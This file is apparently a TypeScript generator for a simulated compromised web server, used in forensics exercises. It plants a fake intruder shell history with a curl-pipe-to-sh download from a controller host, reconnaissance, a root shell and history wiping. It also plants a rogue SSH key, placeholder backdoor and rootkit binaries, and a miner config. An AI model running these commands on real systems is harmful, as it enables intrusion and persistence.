import { fakeElf } from './chance.js';
import { INTRUDER, PLANTED_PATHS, type Scene } from './scene.js';

const ADMIN_HISTORY = `sudo apt update
sudo apt upgrade
systemctl status apache2
tail -f /var/log/apache2/error.log
df -h
sudo journalctl -u mariadb --since today
curl -sI http://localhost/ | head -1
mysql -e 'show processlist'
sudo du -xh --max-depth=1 /var | sort -h
history | grep apt
ss -tlnp
exit
`;

const DEPLOY_HISTORY = `cd /var/www/html
git log -1 --format=%h
wp plugin list --status=active
rsync -a --delete build/ /var/www/html/wp-content/themes/shop/
php -l wp-config.php
wp cache flush
exit
`;

const INTRUDER_HISTORY = `id
uname -a
cat /etc/passwd
sudo -l
sudo su -
cd /var/tmp
curl -fsSL http://${INTRUDER.controller}/x.sh | sh
ps aux | grep kworkerd
history -c
`;

/** A key that is well formed and belongs to nobody. */
function publicKey(comment: string, digits: string): string {
  const blob = Buffer.concat([
    Buffer.from([0, 0, 0, 11]),
    Buffer.from('ssh-ed25519'),
    Buffer.from([0, 0, 0, 32]),
    Buffer.from(digits, 'hex'),
  ]);
  return `ssh-ed25519 ${blob.toString('base64')} ${comment}\n`;
}

/** /root and /home. */
export function paintHomes(scene: Scene): void {
  const { draft, times, random, intruder } = scene;
  const adminKey = publicKey('ops@shop.example', random.hex(64));
  for (const user of ['admin', 'deploy']) {
    draft.file(`home/${user}/.bashrc`, '# ~/.bashrc\ncase $- in *i*) ;; *) return;; esac\nHISTSIZE=1000\n', {
      at: times.installed,
    });
    draft.file(`home/${user}/.profile`, '[ -f "$HOME/.bashrc" ] && . "$HOME/.bashrc"\n', {
      at: times.installed,
    });
    draft.directory(`home/${user}/.ssh`, { at: times.installed, mode: 0o700 });
    draft.file(`home/${user}/.ssh/authorized_keys`, adminKey, { at: times.installed, mode: 0o600 });
  }
  draft.file('home/admin/.bash_history', ADMIN_HISTORY, { at: times.deployed, mode: 0o600 });
  draft.file('home/deploy/deploy.sh', '#!/bin/sh\nset -e\nrsync -a build/ /var/www/html/\n', {
    at: times.deployed,
    mode: 0o755,
  });
  draft.file('root/.bashrc', '# ~/.bashrc: executed by bash(1) for non-login shells.\n', {
    at: times.installed,
  });
  draft.directory('root/.ssh', { at: times.installed, mode: 0o700 });
  if (intruder === 'absent') {
    draft.file(PLANTED_PATHS.rootKeys, adminKey, { at: times.installed, mode: 0o600 });
    draft.file(PLANTED_PATHS.deployHistory, DEPLOY_HISTORY, { at: times.deployed, mode: 0o600 });
    draft.file(PLANTED_PATHS.rootHistory, 'apt update\nsystemctl restart apache2\nexit\n', {
      at: times.deployed,
      mode: 0o600,
    });
    return;
  }
  paintIntrusion(scene, adminKey);
}

function paintIntrusion({ draft, times, random }: Scene, adminKey: string): void {
  const keys = adminKey + publicKey('sysupd@localhost', random.hex(64));
  draft.file(PLANTED_PATHS.rootKeys, keys, { at: times.authorizedKey, mode: 0o600 });
  draft.file(PLANTED_PATHS.deployHistory, DEPLOY_HISTORY + INTRUDER_HISTORY, {
    at: times.historyWiped,
    mode: 0o600,
  });
  draft.file(PLANTED_PATHS.rootHistory, '', { at: times.historyWiped, mode: 0o600 });
  draft.directory('var/lib/sysupd', { at: times.account, mode: 0o700 });
  draft.file(
    PLANTED_PATHS.setuidShell,
    fakeElf(random, ['GNU bash, version 5.2.15(1)-release', 'bash_history', '--rcfile'], 9_000),
    { at: times.setuidShell, mode: 0o4755 },
  );
  draft.file(PLANTED_PATHS.listener, fakeElf(random, ['bind failed', '/bin/sh', 'port 31337'], 5_000), {
    at: times.listener,
    mode: 0o755,
  });
  draft.file(
    PLANTED_PATHS.preloadLibrary,
    fakeElf(random, ['readdir64', 'ld.so.preload', 'hide_me', '/proc/%s/stat'], 6_000),
    { at: times.preload },
  );
  draft.file(
    `${PLANTED_PATHS.minerFolder}/config.json`,
    `{"pools":[{"url":"stratum+tcp://${INTRUDER.controller}:${INTRUDER.poolPort}","user":"x","pass":"x"}],"donate-level":0}\n`,
    { at: times.miner, mode: 0o600 },
  );
  draft.file('dev/shm/.lock', '4242\n', { at: times.miner });
}
